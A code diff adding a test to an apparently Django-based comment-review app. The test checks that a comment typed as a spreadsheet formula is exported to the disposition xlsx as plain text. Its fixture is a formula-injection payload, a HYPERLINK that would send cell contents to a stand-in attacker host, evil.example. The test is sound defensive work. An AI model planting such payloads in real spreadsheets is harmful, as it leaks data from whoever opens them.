@@ -350,3 +350,14 @@ def test_the_disposition_table_downloads_with_its_name(client, commenting, regis
         f"attachment; filename*=utf-8''{quote(commenting.plan_number + '_意见汇总处理表.xlsx')}")
     rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
     assert rows[2][2] == "要导出的意见"
+
+
+def test_a_comment_written_as_a_formula_is_text_in_the_disposition_table(client, commenting, registered_user,
+                                                                        reviewer_user):
+    typed = '=HYPERLINK("http://evil.example/?c="&A1,"详见附件")'
+    comment(registered_user, commenting, text=typed, clause="@5.1")
+    client.force_login(reviewer_user)
+    sheet = load_workbook(io.BytesIO(client.get(f"/projects/{commenting.pk}/comments.xlsx").content)).active
+    clause, text = sheet.cell(3, 2), sheet.cell(3, 3)
+    assert (text.value, text.data_type) == (typed, "s")
+    assert (clause.value, clause.data_type) == ("@5.1", "s")
